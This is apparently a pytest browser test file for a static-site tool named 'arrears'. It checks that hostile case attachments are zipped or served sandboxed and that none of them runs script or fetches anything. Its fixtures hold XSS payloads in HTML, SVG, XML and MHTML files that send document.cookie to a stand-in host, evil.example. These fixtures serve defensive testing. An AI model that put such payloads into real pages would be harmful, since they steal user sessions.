"""Hostile attachments in a real browser: no script runs, no dialog opens, nothing is fetched.

A case's `files/` holds an HTML page, an SVG, XHTML, XML (with an XSLT
stylesheet), an MHTML archive and a text file, each trying to alert, to
write into the page and to fetch from an outside host. The case page links
each of them (from its file list and from a note); Chromium opens every link
from the built site on file:// and under `arrears serve`. The active types
are published only inside a zip, which a browser downloads and never
renders; the passive ones (the text file) are shown inert. Under serve, a
file under files/ is also sent sandboxed and, unless passive, as a download,
even if it were published raw.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from arrears.cli.app import main
from arrears.site.attachments import is_passive, published_name
from site_records import AS_OF
from test_serve import Served
from test_site_browser import CHROMIUM, CHROMIUM_ARGS, need

pytestmark = pytest.mark.browser

SCRIPT = "alert('xss'); document.title = 'owned'; fetch('http://evil.example/stolen?' + document.cookie);"
HOSTILE = {
    "evil.html": f"<!doctype html><title>x</title><script>{SCRIPT}</script><img src='http://evil.example/i.png'>",
    "evil.htm": f"<html><body onload=\"{SCRIPT}\"><script>{SCRIPT}</script></body></html>",
    "evil.svg": ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
                 f'onload="{SCRIPT}"><script>{SCRIPT}</script>'
                 '<image href="http://evil.example/svg.png" width="10" height="10"/></svg>'),
    "evil.xhtml": ('<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body>'
                   f'<script>{SCRIPT}</script><img src="http://evil.example/x.png"/></body></html>'),
    "evil.xml": ('<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="evil.xsl"?>'
                 '<root xmlns:h="http://www.w3.org/1999/xhtml">'
                 f'<h:script>{SCRIPT}</h:script><h:img src="http://evil.example/xml.png"/></root>'),
    "evil.xsl": ('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
                 '<xsl:template match="/"><html><body>'
                 f'<script>{SCRIPT}</script></body></html></xsl:template></xsl:stylesheet>'),
    "evil.mhtml": ("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n"
                   "Content-Type: text/html\r\nContent-Location: http://evil.example/\r\n\r\n"
                   f"<html><script>{SCRIPT}</script><img src='http://evil.example/m.png'></html>\r\n--b--\r\n"),
    "evil.txt": f"<html><script>{SCRIPT}</script></html>\n",
    "sub/evil.html": f"<script>{SCRIPT}</script>",
}


def write_hostile(records) -> None:
    records.write("arrears.toml", 'name = "Larkspur"\ncurrency = "GBP"\ntimezone = "Europe/London"\n')
    records.case("evil")
    links = "\n".join(f"- [{name}](../files/{name})" for name in HOSTILE)
    records.note("evil", "2026-01-15-invoice", """
        date: 2026-01-15
        kind: invoice
        ref: INV-1
        amount: 100.00
        due: 2026-02-01
    """, "The debtor sent these:\n\n" + links + "\n")
    for name, text in HOSTILE.items():
        records.write(f"cases/evil/files/{name}", text)


def test_active_types_are_published_only_inside_a_zip(records, tmp_path):
    write_hostile(records)
    result = CliRunner().invoke(main, ["build", "--root", str(records.root), "--as-of", AS_OF.isoformat(),
                                       "--out", str(tmp_path / "site")])
    assert result.exit_code == 0, result.output
    files = tmp_path / "site/cases/evil/files"
    published = sorted(str(path.relative_to(files)) for path in files.rglob("*") if path.is_file())
    assert published == sorted(published_name(name) for name in HOSTILE)
    assert all(is_passive(name) for name in published), published
    for name, text in HOSTILE.items():
        if is_passive(name):
            assert (files / name).read_text(encoding="utf-8") == text
        else:
            with zipfile.ZipFile(files / (name + ".zip")) as archive:
                assert archive.namelist() == [Path(name).name]
                assert archive.read(Path(name).name).decode("utf-8") == text
    page = (tmp_path / "site/cases/evil/index.html").read_text(encoding="utf-8")
    assert 'href="files/evil.svg.zip"' in page and 'href="files/sub/evil.html.zip"' in page
    assert 'href="files/evil.html"' not in page and 'href="files/evil.svg"' not in page
    assert (records.root / "cases/evil/files/evil.html").read_text(encoding="utf-8") == HOSTILE["evil.html"]


class Observed:
    """Everything a browser context did that an attachment might have caused."""

    def __init__(self, context, origin: str):
        self.dialogs: list[str] = []
        self.outside: list[str] = []
        self.titles: list[str] = []
        self.origin = origin
        context.on("request", self._request)

    def _request(self, request) -> None:
        if not request.url.startswith(self.origin):
            self.outside.append(request.url)

    def page(self, context):
        page = context.new_page()

        def dialog(d):
            self.dialogs.append(d.message)
            d.dismiss()

        page.on("dialog", dialog)
        return page


def _open_every_attachment(browser, case_url: str, origin: str) -> Observed:
    context = browser.new_context(accept_downloads=True)
    observed = Observed(context, origin)
    page = observed.page(context)
    page.goto(case_url)
    hrefs = page.eval_on_selector_all("a[href*='files/']", "links => links.map(a => a.href)")
    assert len(set(hrefs)) == len(HOSTILE), hrefs
    for href in sorted(set(hrefs)):
        tab = observed.page(context)
        if href.endswith(".zip"):
            with tab.expect_download() as download:
                try:
                    tab.goto(href)
                except Exception as error:  # Playwright says "Download is starting": the point
                    assert "Download is starting" in str(error), error
            assert download.value.suggested_filename.endswith(".zip")
        else:
            tab.goto(href)
            tab.wait_for_load_state("load")
            observed.titles.append(tab.title())
            assert "owned" not in tab.title()
            assert tab.evaluate("() => document.querySelectorAll('script').length") == 0 or \
                tab.evaluate("() => document.contentType") == "text/plain"
        tab.close()
    page.close()
    context.close()
    return observed


def test_no_attachment_runs_or_fetches_on_file_urls(records, tmp_path):
    need(CHROMIUM.is_file(), f"{CHROMIUM} is not installed")
    from playwright.sync_api import sync_playwright

    write_hostile(records)
    result = CliRunner().invoke(main, ["build", "--root", str(records.root), "--as-of", AS_OF.isoformat(),
                                       "--out", str(tmp_path / "site")])
    assert result.exit_code == 0, result.output
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        observed = _open_every_attachment(browser, (tmp_path / "site/cases/evil/index.html").as_uri(), "file://")
        browser.close()
    assert observed.dialogs == [] and observed.outside == [], (observed.dialogs, observed.outside)


def test_no_attachment_runs_or_fetches_under_serve(records):
    need(CHROMIUM.is_file(), f"{CHROMIUM} is not installed")
    from playwright.sync_api import sync_playwright

    write_hostile(records)
    served = Served(records.root)
    try:
        # Defence in depth: even a file published raw under files/ is sent sandboxed, as a download.
        raw = records.root / ".arrears-cache/serve/site/cases/evil/files/raw.html"
        raw.write_text(HOSTILE["evil.html"], encoding="utf-8")
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
            observed = _open_every_attachment(browser, served.url + "cases/evil/index.html",
                                              served.url.rstrip("/"))
            context = browser.new_context(accept_downloads=True)
            tab = observed.page(context)
            with tab.expect_download() as download:
                try:
                    tab.goto(served.url + "cases/evil/files/raw.html")
                except Exception as error:
                    assert "Download is starting" in str(error), error
            assert download.value.suggested_filename == "raw.html"
            context.close()
            browser.close()
    finally:
        served.stop()
    assert observed.dialogs == [] and observed.outside == [], (observed.dialogs, observed.outside)


def test_serve_sends_files_sandboxed_and_active_ones_as_downloads(records):
    import http.client

    write_hostile(records)
    served = Served(records.root)
    try:
        (records.root / ".arrears-cache/serve/site/cases/evil/files/raw.svg").write_text(HOSTILE["evil.svg"])
        for path, download in (("raw.svg", True), ("evil.txt", False), ("evil.svg.zip", False)):
            connection = http.client.HTTPConnection("127.0.0.1", served.port, timeout=10)
            connection.request("GET", f"/cases/evil/files/{path}")
            response = connection.getresponse()
            body = response.read()
            connection.close()
            assert response.status == 200
            assert response.getheader("Content-Security-Policy").startswith("sandbox")
            assert "script-src" not in response.getheader("Content-Security-Policy")
            assert (response.getheader("Content-Disposition") == "attachment") is download
            assert b"__arrears" not in body, "the reload script is never added to an attachment"
    finally:
        served.stop()
